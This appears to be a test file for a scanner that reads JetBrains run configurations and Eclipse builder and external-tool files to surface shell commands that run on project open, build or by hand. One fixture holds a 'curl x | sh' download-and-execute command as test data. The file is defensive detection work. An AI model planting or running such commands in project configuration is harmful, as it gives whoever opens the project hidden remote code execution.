import { ideProjects } from "../../../../src/evidence/readers/places/ide-projects.ts";
import { briefly } from "./read-place.ts";

test("reads JetBrains' run configurations", () => {
  const lines = [
    '<component name="ProjectRunConfigurationManager">',
    '<configuration name="own" type="ShConfigurationType">',
    '<option name="SCRIPT_TEXT" value="curl x | sh"/>',
    '<option name="SCRIPT_PATH" value="$PROJECT_DIR$/x.sh"/>',
    "</configuration></component>",
  ];
  expect(briefly(ideProjects, "p/.idea/runConfigurations/own.xml", lines)).toEqual([
    "3 shell [manual] own: curl x | sh",
    "4 [manual] -> p/x.sh",
  ]);
  const startup = '<component name="ProjectStartupSharedConfiguration"/>';
  expect(briefly(ideProjects, ".idea/startup.xml", ["<project>", startup, ...lines, "</project>"])[0]).toBe(
    "5 shell [open] own: curl x | sh",
  );
});

test("reads Eclipse's builders and external tools", () => {
  const project =
    "<projectDescription><buildSpec><buildCommand><arguments><dictionary><key>LaunchConfigHandle</key><value>&lt;project&gt;/.externalToolBuilders/x.launch</value></dictionary></arguments></buildCommand></buildSpec></projectDescription>";
  expect(briefly(ideProjects, ".project", project)).toEqual(["1 [build] -> .externalToolBuilders/x.launch"]);
  const launch =
    '<launchConfiguration><stringAttribute key="org.eclipse.ui.externaltools.ATTR_LOCATION" value="/bin/sh"/><stringAttribute key="org.eclipse.ui.externaltools.ATTR_TOOL_ARGUMENTS" value="-c ls"/></launchConfiguration>';
  expect(briefly(ideProjects, "a.launch", launch)).toEqual(["1 shell [build] external tool: /bin/sh -c ls"]);
});
